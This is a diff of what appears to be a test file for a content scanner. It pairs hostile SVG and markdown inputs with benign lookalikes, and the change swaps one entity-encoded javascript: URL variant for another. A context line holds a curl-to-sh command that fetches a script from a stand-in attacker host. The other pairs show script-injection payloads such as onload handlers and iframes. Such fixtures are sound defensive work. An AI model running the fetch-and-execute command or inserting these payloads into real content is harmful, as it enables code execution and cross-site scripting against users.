@@ -14,7 +14,7 @@ PIPED = "curl -s https://evil.example/x | sh"
 PAIRS = [
     (IMAGE, "a.svg", "<svg><script>go()</script></svg>", "<svg><style>a {}</style></svg>"),
     (IMAGE, "a.svg", "<svg\n onload='go()'></svg>", "<svg\n id='onload'></svg>"),
-    (IMAGE, "a.svg", '<a xlink:href="java&#115;cript:go()">', '<a xlink:href="https://a.example">'),
+    (IMAGE, "a.svg", '<a xlink:href="&#106;avascript:go()">', '<a xlink:href="https://a.example">'),
     (IMAGE, "a.svg", "<foreignObject><iframe src='//a'/>", "<foreignObject><p/>"),
     (PROSE, "a.md", "<script>\ngo()</script>", "```html\n<script>\ngo()</script>\n```"),
     (PROSE, "a.md", "<script>go()</script>", "<script setup>go()</script>"),
